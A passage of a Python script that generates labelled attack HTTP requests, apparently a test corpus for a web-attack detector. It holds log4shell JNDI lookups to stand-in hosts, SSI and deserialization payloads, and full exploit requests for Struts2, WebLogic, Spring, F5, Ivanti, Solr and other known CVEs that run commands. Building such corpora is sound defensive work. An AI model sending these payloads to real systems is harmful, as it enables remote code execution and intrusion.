                  "${j${::-n}di:iiop://x.example/a}", "${${sys:foo:-j}ndi:ldap://x.example/a}"],
    "mail": ["x@example.com%0d%0aBcc:spam@x.example", "victim@example.com\nCc: a@x.example", "a\r\nRCPT TO:<b@x.example>"],
    "ssi": ['<!--#exec cmd="ls" -->', '<!--#include file="../../etc/passwd" -->', '<!-- #echo var="DATE_LOCAL" -->'],
    "deserialization": ['a:2:{i:0;s:4:"test";i:1;O:8:"stdClass":0:{}}', 'O:8:"Example1":1:{s:10:"cache_file";s:15:"../../index.php";}', "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
                        '{"@type":"org.apache.commons.configuration.JNDIConfiguration","prefix":"ldap://x.example/a"}', "cos\nsystem\n(S'id'\ntR."],
    "open_redirect": ["//x.example/%2f..", "https:/\\x.example", "/%09/x.example", "//x.example@target.test", "\\/x.example"],
}

def xml_esc(v):
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

def json_unicode(v):
    return "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04x}" for c in v)

def mixed_case(v):
    return "".join(c.upper() if R2.random() < 0.5 else c.lower() for c in v)

for cls, pays in P2.items():
    for p in pays:
        places = ["query", "query-b64", "json-nested", "json-unicode", "multipart-filename", "xml-element", "cookie-b64", "header-xff", "form-entities", "query-double", "path-mixed"]
        if cls == "open_redirect":
            places = ["redirect", "redirect-json"]
        if cls == "xxe":
            places = ["xml", "soap", "multipart-svg"]
        if cls == "crlf":
            places = ["query", "path", "header-xff"]
        for pl in R2.sample(places, min(len(places), 3)):
            name = R2.choice(["id", "q", "filter", "name", "path", "page", "cmd", "host", "email", "tpl", "user", "url", "value", "sort"])
            h, b, t, m, how = [["User-Agent", UA]], b"", "/", "GET", "plain"
            if pl == "query":
                t = f"/api/v3/items?{name}={quote(p, safe='')}&limit=20"; how = "url"
            elif pl == "query-double":
                t = f"/search?{name}={quote(quote(p, safe=''), safe='')}"; how = "double"
            elif pl == "query-b64":
                t = f"/api/report?{name}={base64.urlsafe_b64encode(p.encode()).decode().rstrip('=')}&fmt=json"; how = "base64url"
            elif pl == "path":
                t = f"/static/{quote(p, safe='%')}/index.html"; how = "url"
            elif pl == "path-mixed":
                # Mixed case only where the target language ignores case (SQL keywords, HTML, URL hosts, lookups).
                mixed = cls in ("sqli", "xss", "ssrf", "log4shell", "ldapi")
                t = f"/v1/files/{quote(mixed_case(p) if mixed else p, safe='')}"; how = "url-mixedcase" if mixed else "url"
            elif pl == "redirect":
                t = f"/sso/logout?returnTo={quote(p, safe='')}"; how = "url"
            elif pl == "redirect-json":
                m, b = "POST", json.dumps({"action": "login", "redirect_url": p}).encode(); h = [["Content-Type", "application/json"]]
            elif pl == "json-nested":
                m = R2.choice(["POST", "PUT", "PATCH"]); b = json.dumps({"data": {"type": "order", "attributes": {"items": [{"sku": "A-1", "qty": 1}, {"sku": "B-2", "note": p}]}}}).encode(); h = [["Content-Type", "application/vnd.api+json"]]
            elif pl == "json-unicode":
                m, b = "POST", ('{"query": {"' + name + '": "' + json_unicode(p) + '"}}').encode(); h = [["Content-Type", "application/json; charset=utf-8"]]; how = "json-unicode"
            elif pl == "multipart-filename":
                m = "POST"; b = f"--Bnd7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{p.replace(chr(34), '%22').replace(chr(13), '%0d').replace(chr(10), '%0a')}\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--Bnd7--\r\n".encode("latin-1", "replace"); h = [["Content-Type", "multipart/form-data; boundary=Bnd7"]]
            elif pl == "xml-element":
                m, b = "POST", f'<?xml version="1.0" encoding="UTF-8"?><request><user><{name}>{xml_esc(p)}</{name}></user></request>'.encode(); h = [["Content-Type", "application/xml"]]; how = "xml-escaped"
            elif pl == "soap":
                m, b = "POST", (p if p.startswith("<?xml") else p).encode(); h = [["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", "\"urn:import\""]]
            elif pl == "xml":
                m, b = "POST", p.encode(); h = [["Content-Type", "application/xml"]]
            elif pl == "multipart-svg":
                m = "POST"; b = f"--Bnd7\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{p}\r\n--Bnd7--\r\n".encode(); h = [["Content-Type", "multipart/form-data; boundary=Bnd7"]]
            elif pl == "cookie-b64":
                h = [["User-Agent", UA], ["Cookie", f"_ga=GA1.2.{R2.randint(10**8, 10**9)}.{R2.randint(10**9, 2*10**9)}; prefs={base64.b64encode(p.encode()).decode()}; lang=en"]]; how = "base64"
            elif pl == "header-xff":
                hn = R2.choice(["X-Forwarded-For", "X-Forwarded-Host", "Referer", "X-Client-Data", "True-Client-IP", "Origin"])
                h = [["User-Agent", UA], [hn, p.replace("\r", "%0d").replace("\n", "%0a")]]
            elif pl == "form-entities":
                m = "POST"; ent = "".join(f"&#{ord(c)};" if not c.isalnum() and c != " " else c for c in p)
                b = f"comment={quote(ent, safe='')}&post_id=12".encode(); h = [["Content-Type", "application/x-www-form-urlencoded"]]; how = "html-entities"
            if b:
                h = h + [["Content-Length", str(len(b))]]
            out.append({"id": f"own-attack-{i:05d}", "set": "own-attacks-2", "file": "gen_attacks.py", "class": cls, "label": "attack", "encoder": how, "placeholder": pl, "payload": p,
                        "method": m, "target": t, "headers": [["Host", HOST]] + h, "body_b64": base64.b64encode(b).decode()})
            i += 1

CVE2 = [
    ("CVE-2021-41773 apache cgi rce", "POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", [["Content-Type", "text/plain"]], b"echo Content-Type: text/plain; echo; id"),
    ("CVE-2022-22965 spring4shell get", "GET", "/app/index?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", [], b""),
    ("CVE-2018-11776 struts2 namespace ognl", "GET", "/struts2-showcase/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action", [], b""),
    ("CVE-2020-17530 struts2 forced ognl", "POST", "/index.action", [["Content-Type", "application/x-www-form-urlencoded"]], b"id=%25%7b(%23instancemanager%3d%23application%5b%22org.apache.tomcat.InstanceManager%22%5d).(%23stack%3d%23attr%5b%22com.opensymphony.xwork2.util.ValueStack.ValueStack%22%5d).(%23bean%3d%23instancemanager.newInstance(%22org.apache.commons.collections.BeanMap%22)).(%23bean.setBean(%23stack)).(%23context%3d%23bean.get(%22context%22)).(%23bean.setBean(%23context)).(%23macc%3d%23bean.get(%22memberAccess%22)).(%23bean.setBean(%23macc)).(%23emptyset%3d%23instancemanager.newInstance(%22java.util.HashSet%22)).(%23bean.put(%22excludedClasses%22%2c%23emptyset)).(%23bean.put(%22excludedPackageNames%22%2c%23emptyset)).(%23arglist%3d%23instancemanager.newInstance(%22java.util.ArrayList%22)).(%23arglist.add(%22id%22)).(%23execute%3d%23instancemanager.newInstance(%22freemarker.template.utility.Execute%22)).(%23execute.exec(%23arglist))%7d"),
    ("ThinkPHP 5.0.23 rce", "POST", "/index.php?s=captcha", [["Content-Type", "application/x-www-form-urlencoded"]], b"_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id"),
    ("CVE-2019-2725 weblogic async", "POST", "/_async/AsyncResponseService", [["Content-Type", "text/xml"]], b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService"><soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></void></work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>'),
    ("CVE-2022-22954 vmware workspace one ssti", "GET", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D", [], b""),
    ("CVE-2022-22947 spring cloud gateway spel", "POST", "/actuator/gateway/routes/hacktest", [["Content-Type", "application/json"]], b'{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}'),
    ("CVE-2019-17558 solr velocity", "GET", "/solr/core1/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))", [], b""),
    ("CVE-2019-0193 solr dataimport script", "POST", "/solr/core1/dataimport", [["Content-Type", "application/x-www-form-urlencoded"]], b"command=full-import&dataConfig=%3CdataConfig%3E%3Cscript%3E%3C!%5BCDATA%5Bfunction+poc()%7Bjava.lang.Runtime.getRuntime().exec(%22id%22)%3B%7D%5D%5D%3E%3C%2Fscript%3E%3C%2FdataConfig%3E"),
    ("CVE-2024-38856 ofbiz groovy", "POST", "/webtools/control/main/ProgramExport", [["Content-Type", "application/x-www-form-urlencoded"]], b"groovyProgram=throw+new+Exception('id'.execute().text);"),
    ("CVE-2022-46169 cacti poller", "GET", "/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`touch+/tmp/x`", [["X-Forwarded-For", "127.0.0.1"]], b""),
    ("CVE-2022-30525 zyxel mtu", "POST", "/ztp/cgi-bin/handler", [["Content-Type", "application/json"]], b'{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; bash -c \'id\';","data":"hi"}'),
    ("CVE-2024-21887 ivanti command injection", "GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20-c%20%27import%20os%3bos.system(%22id%22)%27%3b", [], b""),
    ("CVE-2019-11581 jira contact ssti", "POST", "/secure/ContactAdministrators.jspa", [["Content-Type", "application/x-www-form-urlencoded"]], b"from=a%40b.example&subject=%24i18n.getClass%28%29.forName%28%27java.lang.Runtime%27%29.getMethod%28%27getRuntime%27%2Cnull%29.invoke%28null%2Cnull%29.exec%28%27id%27%29&details=x&atl_token=t"),
    ("CVE-2021-22986 f5 icontrol rce (json args)", "POST", "/mgmt/tm/util/bash", [["Authorization", "Basic YWRtaW46"], ["Content-Type", "application/json"]], b'{"command":"run","utilCmdArgs":"-c whoami"}'),
    ("CVE-2022-1388 f5 hop-by-hop auth strip", "POST", "/mgmt/shared/authn/login", [["Connection", "close, X-F5-Auth-Token, X-Forwarded-For, Local-Ip-From-Httpd, X-F5-New-Authtok-Reqd, X-Forwarded-Server, X-Forwarded-Host"], ["X-F5-Auth-Token", "anything"], ["Authorization", "Basic YWRtaW46"], ["Content-Type", "application/json"]], b'{"username":"admin","loginReference":{"link":"http://localhost/mgmt/shared/gossip"},"userReference":{"link":"https://localhost/mgmt/shared/authz/users/admin"}}'),
    ("hop-by-hop Authorization strip", "GET", "/admin/users", [["Connection", "keep-alive, Authorization"], ["Authorization", "Bearer x"]], b""),
    ("CVE-2021-26855 exchange ssrf cookie", "POST", "/ecp/y.js", [["Cookie", "X-BEResource=localhost/owa/auth/logon.aspx?~1942062522; X-AnonResource=true"], ["Content-Type", "text/xml"]], b""),
    ("CVE-2023-22515 confluence log4j-style header", "GET", "/", [["X-Api-Version", "${jndi:ldap://x.example/c}"], ["Referer", "${${::-j}ndi:rmi://x.example/c}"]], b""),
    ("log4shell in json login", "POST", "/api/login", [["Content-Type", "application/json"]], b'{"username":"${jndi:ldap://198.51.100.7:1389/u}","password":"x"}'),
    ("log4shell in basic auth", "GET", "/admin", [["Authorization", "Basic " + base64.b64encode(b"${jndi:ldap://198.51.100.7/a}:x").decode()]], b""),
    ("moveit-style sqli in header cookie", "GET", "/human.aspx", [["Cookie", "siLockLongTermInstID=0' UNION SELECT NULL,NULL,NULL--"]], b""),
    ("wordpress plugin sqli ajax", "GET", "/wp-admin/admin-ajax.php?action=get_items&id=1%20AND%20(SELECT%205555%20FROM%20(SELECT(SLEEP(5)))x)", [], b""),
    ("phpunit eval-stdin get", "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?<?php+phpinfo();+?>", [], b""),
    ("CVE-2017-5638 struts2 content-type variant", "GET", "/login.action", [["Content-Type", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Test','ok')}.multipart/form-data"]], b""),
]
for name, m, t, h, b in CVE2:
    out.append({"id": f"own-attack-{i:05d}", "set": "own-cve-2", "file": "gen_attacks.py", "class": name, "label": "attack", "encoder": "", "placeholder": "exploit", "payload": "",
                "method": m, "target": t, "headers": [["Host", HOST]] + h + ([["Content-Length", str(len(b))]] if b else []), "body_b64": base64.b64encode(b).decode()})
    i += 1

for c in out:
    print(json.dumps(c, ensure_ascii=False))
